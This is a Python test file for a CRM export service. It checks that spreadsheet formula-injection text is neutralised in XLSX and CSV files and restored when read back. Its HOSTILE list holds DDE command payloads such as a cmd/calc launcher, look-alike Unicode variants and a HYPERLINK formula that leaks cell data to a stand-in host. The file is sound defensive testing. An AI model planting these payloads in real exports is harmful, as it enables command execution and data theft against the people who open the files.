"""Formula-injection and cell-safety rules of the CRM export, on text and on files."""

from __future__ import annotations

import csv
import dataclasses
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.services.export.csv_export import export_csv
from app.services.export.readback import diff_definitions, read_definitions_workbook
from app.services.export.records import ExportBundle
from app.services.export.safety import (
    MAX_CELL_CHARS,
    clean_text,
    looks_like_formula,
    neutralise,
    restore_text,
)
from app.services.export.sample import sample_bundle
from app.services.export.workbook import export_workbook

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=1+1",
    "'=already quoted",
    " =1 after a space",
    "\u200b=1 after a zero-width space",
    "＝cmd|' /C calc'!A0",
    "＋1+1",
    "－2+3",
    "＠SUM(A1)",
    "﹦1",
    "−5+5",
    "- bullet that Excel would read as a formula",
    "=",
]
# What a spreadsheet could take as the start of a formula, look-alikes included.
TRIGGERS = tuple("=+-@\t\r＝﹦＋﹢－﹣−＠﹫ \u200b")


def hostile_bundle() -> ExportBundle:
    """The sample workspace with hostile text in every kind of text cell."""
    bundle = sample_bundle()
    stages = [
        dataclasses.replace(s, definition=HOSTILE[i % len(HOSTILE)], recycle_path=HOSTILE[-i])
        for i, s in enumerate(bundle.stages)
    ]
    glossary = [
        dataclasses.replace(term, name=f"{text} #{i}", examples=text)
        for i, (term, text) in enumerate(zip(bundle.glossary, HOSTILE, strict=False))
    ]
    personas = [dataclasses.replace(p, pains=HOSTILE[i]) for i, p in enumerate(bundle.personas)]
    return dataclasses.replace(bundle, stages=stages, glossary=glossary, personas=personas)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_neutralised_and_restored(text: str) -> None:
    safe = neutralise(clean_text(text))
    assert not safe.startswith(TRIGGERS)
    assert restore_text(safe) == clean_text(text)


def test_plain_numbers_are_left_alone_as_documented() -> None:
    for number in ("-5", "+2.5", "-1e3", "42"):
        assert neutralise(number) == number
        assert not looks_like_formula(number)


def test_control_characters_are_removed_but_line_breaks_kept() -> None:
    assert clean_text("a\x00b\x07c\r\nd\re\x1bf\tg") == "abc\nd\nefg"


@given(st.text())
def test_any_text_round_trips_and_never_reads_as_a_formula(text: str) -> None:
    cleaned = clean_text(text)
    safe = neutralise(cleaned)
    assert restore_text(safe) == cleaned
    assert not looks_like_formula(safe)


def _string_cells(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    values = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    values.append(cell.value)
    return values


def test_workbook_stores_hostile_text_as_inert_strings(tmp_path: Path) -> None:
    path = tmp_path / "hostile.xlsx"
    export_workbook(hostile_bundle(), "generic", {}, path, include_proposed=True)

    values = _string_cells(path)
    assert "'=cmd|' /C calc'!A0" in values
    assert not [v for v in values if v.startswith(TRIGGERS)]
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name


def test_hostile_text_comes_back_unchanged_when_read_back(tmp_path: Path) -> None:
    bundle = hostile_bundle()
    path = tmp_path / "hostile.xlsx"
    export_workbook(bundle, "hubspot", {}, path, include_proposed=True)

    parsed = read_definitions_workbook(path)

    assert diff_definitions(bundle, parsed).is_empty
    definitions = {s.key: s.definition for s in parsed.stages}
    assert definitions["stage-1"] == "=cmd|' /C calc'!A0"
    assert definitions["stage-5"] == "=1"  # the tab is a control character
    assert definitions["stage-6"] == "\n=1"  # CR becomes a line break


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_files_neutralise_the_same_way(tmp_path: Path) -> None:
    export_csv(hostile_bundle(), "generic", {}, tmp_path, include_proposed=True)

    for path in tmp_path.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                formulas = [c for c in row if c.startswith(TRIGGERS) and not _is_number(c)]
                assert not formulas, path.name
    text = (tmp_path / "lifecycle_stages.csv").read_text(encoding="utf-8")
    assert "'=cmd|' /C calc'!A0" in text


def test_overlong_text_is_cut_with_a_warning_naming_the_cell(tmp_path: Path) -> None:
    bundle = sample_bundle()
    long_stage = dataclasses.replace(bundle.stages[2], definition="x" * (MAX_CELL_CHARS + 10))
    bundle = dataclasses.replace(bundle, stages=[*bundle.stages[:2], long_stage])
    path = tmp_path / "long.xlsx"

    result = export_workbook(bundle, "generic", {}, path)

    sheet = openpyxl.load_workbook(path)["Lifecycle stages"]
    assert len(sheet["E4"].value) == MAX_CELL_CHARS
    [warning] = result.warnings
    assert (warning.sheet, warning.row, warning.column) == ("Lifecycle stages", 4, "Definition")
    assert "32,767" in str(warning)
